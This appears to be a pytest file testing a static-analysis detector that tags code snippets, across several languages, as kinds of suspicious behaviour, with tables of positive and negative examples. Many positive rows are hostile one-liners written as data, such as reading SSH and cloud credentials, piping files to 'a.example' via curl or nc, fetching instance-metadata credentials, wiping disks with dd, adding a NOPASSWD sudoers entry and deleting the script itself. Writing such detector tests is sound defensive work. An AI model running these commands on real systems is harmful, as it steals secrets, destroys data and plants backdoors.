"""Each kind of fact is read from the call that makes it, in several languages, and from nothing that looks like it."""

from __future__ import annotations

import pytest

from tank_core.analysis.facts import FactKind, facts_of
from tank_core.analysis.source import Language, Source

PY, SH, JS = Language.PYTHON, Language.SHELL, Language.JAVASCRIPT
RB, PHP, PS, GO = Language.RUBY, Language.PHP, Language.POWERSHELL, Language.GO
K = FactKind

FOUND = [
    (K.CREDENTIAL_FILE, PY, 'open(home + "/.aws/credentials")'),
    (K.CREDENTIAL_FILE, PY, '(Path.home() / ".ssh" / "id_ed25519").read_text()'),
    (K.CREDENTIAL_FILE, SH, "cat ~/.netrc"),
    (K.CREDENTIAL_FILE, SH, "tar czf k.tgz ~/.gnupg"),
    (K.CREDENTIAL_FILE, JS, 'fs.readFileSync(path.join(os.homedir(), ".kube/config"))'),
    (K.CREDENTIAL_FILE, RB, 'File.read(Dir.home + "/.ssh/id_rsa")'),
    (K.CREDENTIAL_FILE, GO, 'os.ReadFile(home + "/.docker/config.json")'),
    (K.CREDENTIAL_FILE, PY, 'open(".env")'),
    (K.CREDENTIAL_FILE, SH, "curl -d @.env.production https://a.example"),
    (K.CREDENTIAL_FILE, PY, 'ssh_key = open(os.path.expanduser("~/.ssh/id_rsa")).read()'),
    (K.CREDENTIAL_FILE, PY, 'ssh_key = (Path.home() / ".ssh" / "id_rsa").read_text()'),
    (K.CREDENTIAL_FILE, SH, "sed -i s/a/b/ f; cat ~/.ssh/id_rsa"),
    (K.METADATA, SH, "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    (K.ENVIRONMENT, PY, "data = dict(os.environ)"),
    (K.ENVIRONMENT, PY, "for name, value in os.environ.items(): pass"),
    (K.ENVIRONMENT, PY, "json=os.environ"),
    (K.ENVIRONMENT, JS, "JSON.stringify(process.env)"),
    (K.ENVIRONMENT, JS, "Object.entries(process.env)"),
    (K.DATABASE, SH, "pg_dump app > app.sql"),
    (K.PERSISTS, SH, "(crontab -l; cat job) | crontab -"),
    (K.PERSISTS, PY, 'open(home + "/.bashrc", "a")'),
    (K.ENVIRONMENT, SH, "env | sort"),
    (K.ENVIRONMENT, SH, 'x="$(printenv)"'),
    (K.ENVIRONMENT, RB, "ENV.to_h"),
    (K.ENVIRONMENT, PS, "Get-ChildItem env:"),
    (K.ENVIRONMENT, GO, "os.Environ()"),
    (K.BROWSER_STORE, PY, 'sqlite3.connect(profile + "/cookies.sqlite")'),
    (K.BROWSER_STORE, JS, 'fs.copyFileSync(`${home}/Login Data`, "x")'),
    (K.WALLET, JS, 'fs.readFileSync(home + "/.config/solana/id.json")'),
    (K.WALLET, SH, "cp -r ~/.bitcoin/ /tmp/b"),
    (K.HISTORY, SH, "tail -n 50 ~/.zsh_history"),
    (K.HISTORY, PS, "Get-Content $p\\ConsoleHost_history.txt"),
    (K.AGENT_STATE, PY, 'open(home + "/.claude/history.jsonl")'),
    (K.KEYSTROKES, PY, "from pynput import keyboard"),
    (K.KEYSTROKES, PS, "[Win]::GetAsyncKeyState($key)"),
    (K.CLIPBOARD, PY, "pyperclip.paste()"),
    (K.CLIPBOARD, SH, "xclip -selection c -o"),
    (K.CLIPBOARD, JS, "await navigator.clipboard.readText()"),
    (K.SCREEN, PY, "ImageGrab.grab()"),
    (K.SCREEN, SH, "screencapture -x /tmp/a.png"),
    (K.CREDENTIAL_COMMAND, SH, "gh auth token"),
    (K.CREDENTIAL_COMMAND, PY, 'keyring.get_password("a", "b")'),
    (K.USER_FILES, PY, 'os.walk(os.path.expanduser("~"))'),
    (K.USER_FILES, SH, 'find "$HOME" -name "*.pdf"'),
    (K.USER_FILES, JS, "fs.readdirSync(os.homedir())"),
    (K.NAMED_SECRET, PY, 'os.environ["ACME_TOKEN"]'),
    (K.NAMED_SECRET, JS, "process.env.ACME_API_KEY"),
    (K.NAMED_SECRET, SH, 'echo "${ACME_SECRET}"'),
    (K.SYSTEM_FACTS, PY, "socket.gethostname()"),
    (K.SYSTEM_FACTS, JS, "os.userInfo()"),
    (K.ENCODES, PY, "base64.b64encode(data)"),
    (K.ENCODES, JS, 'data.toString("base64")'),
    (K.ENCODES, SH, "cat a | base64"),
    (K.SENDS, PY, "requests.post(url, data=data)"),
    (K.SENDS, PY, "urlopen(url, data=data)"),
    (K.SENDS, PY, "sock.sendall(data)"),
    (K.SENDS, JS, 'fetch(url, {\n  method: "POST",\n})'),
    (K.SENDS, SH, "curl -s -d @- https://a.example"),
    (K.SENDS, SH, "tar c . | nc a.example 4444"),
    (K.SENDS, RB, "Net::HTTP.post(uri, data)"),
    (K.SENDS, PS, "Invoke-RestMethod -Uri $u -Method POST -Body $b"),
    (K.SENDS, GO, 'http.Post(url, "text/plain", body)'),
    (K.FETCHES, PY, "requests.get(url)"),
    (K.FETCHES, SH, "wget -q https://a.example"),
    (K.FETCHES, PHP, 'file_get_contents("https://a.example")'),
    (K.DECODES, PY, "base64.b64decode(text)"),
    (K.DECODES, JS, 'Buffer.from(text, "base64")'),
    (K.DECODES, SH, "base64 -d < a"),
    (K.DECODES, PHP, "gzinflate($a)"),
    (K.RUNS_CODE, PY, "exec(text)"),
    (K.RUNS_CODE, JS, 'new Function("a", text)'),
    (K.RUNS_CODE, SH, 'eval "$text"'),
    (K.RUNS_CODE, PS, "Invoke-Expression $text"),
    (K.RUNS_SHELL, PY, "os.system(command)"),
    (K.RUNS_SHELL, JS, "execSync(command)"),
    (K.DELETES_BROADLY, SH, "rm -rf ~/"),
    (K.DELETES_BROADLY, SH, "find . -type f -delete"),
    (K.DELETES_BROADLY, PY, 'shutil.rmtree(os.path.expanduser("~/x"))'),
    (K.LOCKS_FILES, PY, "Fernet(key)"),
    (K.LOCKS_FILES, SH, "openssl enc -aes-256-cbc -in a -out b"),
    (K.FLOODS, SH, "while true; do curl -s https://a.example; done"),
    (K.FLOODS, PY, "while True:\n    requests.get(url)"),
    (K.FETCHES, SH, "certutil -urlcache -f https://a.example/a a"),
    (K.PERSISTS, JS, 'fs.appendFileSync(os.homedir() + "/.zshrc", line)'),
    (K.PERSISTS, SH, "echo run.sh | at now + 5 minutes"),
    (K.PERSISTS, SH, "git config --global init.templateDir ~/.templates"),
    (K.PERSISTS, PY, '(Path.home() / ".config" / "autostart" / "a.desktop").write_text(a)'),
    (K.RUNS_UNSEEN, PY, "subprocess.Popen(a, start_new_session=True)"),
    (K.RUNS_UNSEEN, JS, "spawn(a, [], { detached: true })"),
    (K.RUNS_UNSEEN, SH, "nohup ./a &"),
    (K.RUNS_UNSEEN, PS, "Start-Process a -WindowStyle Hidden"),
    (K.HIDES_PROGRAM, SH, "cp a ~/.cache/.fonts-d/a"),
    (K.HIDES_PROGRAM, PY, 'Path.home() / ".local" / "share" / ".dbus-proxy"'),
    (K.HIDES_PROGRAM, SH, "cp a /dev/shm/a"),
    (K.HIDES_PROGRAM, SH, "cp a ~/.notes/.u"),
    (K.RUNS_UNSEEN, RB, "Process.daemon"),
    (K.LOOKS_AROUND, PY, 'if os.environ.get("GITHUB_ACTIONS"): sys.exit()'),
    (K.LOOKS_AROUND, PY, 'getpass.getuser() in ("sandbox", "a")'),
    (K.LOOKS_AROUND, JS, 'new Date() > new Date("2026-01-01")'),
    (K.LOOKS_AROUND, SH, 'case "$(hostname)" in a) exit;; esac'),
    (K.LOOKS_AROUND, SH, "test -e /.dockerenv"),
    (K.WIPES_TRACES, SH, "history -c"),
    (K.WIPES_TRACES, SH, 'rm -f "$0"'),
    (K.WIPES_TRACES, PY, "os.remove(__file__)"),
    (K.WIPES_TRACES, JS, "fs.unlinkSync(__filename)"),
    (K.COPIES_ITSELF, PY, "shutil.copy(__file__, a)"),
    (K.COPIES_ITSELF, SH, 'cp "$0" a'),
    (K.GAINS_RIGHTS, SH, "chmod u+s /bin/a"),
    (K.GAINS_RIGHTS, SH, "useradd -o -u 0 a"),
    (K.GAINS_RIGHTS, SH, "echo 'a ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/a"),
    (K.GAINS_RIGHTS, PS, "net localgroup administrators a /add"),
    (K.OPENS_LOGIN, PY, 'open(home + "/.ssh/authorized_keys", "a")'),
    (K.DESTROYS, PY, 'shutil.rmtree(os.path.expanduser("~/Documents"))'),
    (K.DESTROYS, JS, 'fs.rmSync(os.homedir() + "/Documents", { recursive: true })'),
    (K.DESTROYS, SH, "sudo chmod -R 000 /"),
    (K.DESTROYS, SH, "dd if=/dev/zero of=/dev/sda"),
    (K.DESTROYS, PS, "Remove-Item -Recurse $env:USERPROFILE\\Documents"),
]
NOT_FOUND = [
    (K.CREDENTIAL_FILE, SH, "cat ~/.ssh/id_ed25519.pub"),
    (K.CREDENTIAL_FILE, SH, "ssh-keygen -R a.example -f ~/.ssh/known_hosts && cat a"),
    (K.CREDENTIAL_FILE, SH, "cat a.txt\nssh -i ~/.ssh/id_ed25519 deploy@a.example"),
    (K.CREDENTIAL_FILE, PY, 'open("a")\nclient.connect(host, key_filename="/home/a/.ssh/id_rsa")'),
    (K.CREDENTIAL_FILE, PY, '# open("/.aws/credentials")\nopen("a")'),
    (K.CREDENTIAL_FILE, PY, 'NAMES = [".aws/credentials"]'),
    (K.CREDENTIAL_FILE, SH, "scp -i ~/.ssh/id_ed25519 a.tgz a.example:"),
    (K.CREDENTIAL_FILE, PY, 'subprocess.run(["ssh", "-i", f"{home}/.ssh/id_rsa", host])\nopen("a")'),
    (K.CREDENTIAL_FILE, SH, "cat .env.example"),
    (K.ENVIRONMENT, PY, 'os.environ["HOME"]'),
    (K.ENVIRONMENT, PY, 'if "CI" in os.environ: pass'),
    (K.ENVIRONMENT, PY, "subprocess.run(a, env={**os.environ, 'A': '1'})"),
    (K.ENVIRONMENT, PY, "subprocess.run(a, env=dict(os.environ, A='1'))"),
    (K.ENVIRONMENT, JS, 'spawn("make", [], { env: { ...process.env, CI: "1" } })'),
    (K.ENVIRONMENT, JS, "const settings = { ...defaults, ...process.env }"),
    (K.ENVIRONMENT, JS, "process.env.HOME"),
    (K.DATABASE, SH, "psql -c 'select 1'"),
    (K.PERSISTS, SH, "crontab -l"),
    (K.PERSISTS, SH, ". ~/.bashrc"),
    (K.ENVIRONMENT, SH, "#!/usr/bin/env bash\nenv FOO=1 make"),
    (K.BROWSER_STORE, PY, 'jar = session.cookies\nopen("a")'),
    (K.WALLET, PY, 'print("wallet")\nopen("a")'),
    (K.HISTORY, SH, "history"),
    (K.KEYSTROKES, PY, "event.keyboard"),
    (K.CLIPBOARD, PY, "pyperclip.copy(text)"),
    (K.CREDENTIAL_COMMAND, SH, "gh auth status"),
    (K.USER_FILES, PY, 'os.walk("src")'),
    (K.NAMED_SECRET, PY, 'os.environ["LANG"]'),
    (K.SENDS, PY, "requests.get(url)"),
    (K.SENDS, SH, "curl -fsSL https://a.example -o a"),
    (K.SENDS, PY, "# requests.post(url)"),
    (K.DECODES, PY, "base64.b64encode(data)"),
    (K.RUNS_CODE, PY, "model.eval()\nast.literal_eval(text)"),
    (K.RUNS_CODE, PY, "json.load(file)\nnumpy.load(path)\ndef load(path): pass"),
    (K.RUNS_CODE, JS, "pattern.exec(text)"),
    (K.RUNS_SHELL, PY, 'os.system("make")'),
    (K.DELETES_BROADLY, SH, "rm -rf ./build && rm -f /tmp/a"),
    (K.FLOODS, SH, "while read -r line; do curl $line; done"),
    (K.PERSISTS, PY, 'torch.save(model, "weights.pth")'),
    (K.RUNS_UNSEEN, PY, "subprocess.run(a, check=True)"),
    (K.HIDES_PROGRAM, SH, "cp a ~/.local/bin/a && cp b ~/.config/a.toml"),
    (K.LOOKS_AROUND, PY, 'print(os.environ.get("CI"))'),
    (K.WIPES_TRACES, SH, "tmp=$(mktemp); trap 'rm -f \"$tmp\"' EXIT"),
    (K.COPIES_ITSELF, SH, 'cp "$1" a'),
    (K.GAINS_RIGHTS, SH, "chmod 755 a && chmod +x b && useradd -m deploy"),
    (K.OPENS_LOGIN, SH, "grep -c a ~/.ssh/authorized_keys"),
    (K.DESTROYS, SH, "rm -rf ~/.cache/pip build"),
    (K.DESTROYS, PY, 'shutil.rmtree(os.path.join(os.path.dirname(a), "build"))'),
]


def _kinds(language: Language, text: str) -> set[FactKind]:
    return {fact.kind for fact in facts_of(Source("a", 1, language, text))}


@pytest.mark.parametrize(("kind", "language", "text"), FOUND, ids=[row[2] for row in FOUND])
def test_fact_is_found(kind: FactKind, language: Language, text: str) -> None:
    assert kind in _kinds(language, text)


@pytest.mark.parametrize(("kind", "language", "text"), NOT_FOUND, ids=[row[2] for row in NOT_FOUND])
def test_what_looks_like_a_fact_is_none(kind: FactKind, language: Language, text: str) -> None:
    assert kind not in _kinds(language, text)


def test_table_has_every_kind() -> None:
    assert {row[0] for row in FOUND} == set(FactKind)


def test_fact_has_the_place_of_its_call() -> None:
    text = "import requests\n# requests.post(a)\nrequests.post(b)\n"
    (fact,) = [fact for fact in facts_of(Source("a.py", 1, PY, text)) if fact.kind is K.SENDS]
    assert text[fact.offset :].startswith("requests.post(b)")


def test_key_to_log_in_with_does_not_hide_one_that_is_read() -> None:
    text = "ssh -i ~/.ssh/id_ed25519 a.example\ncat ~/.ssh/id_rsa\n"
    (fact,) = [fact for fact in facts_of(Source("a.sh", 1, SH, text)) if fact.kind is K.CREDENTIAL_FILE]
    assert "id_rsa" in text[fact.offset :].split("\n")[0]
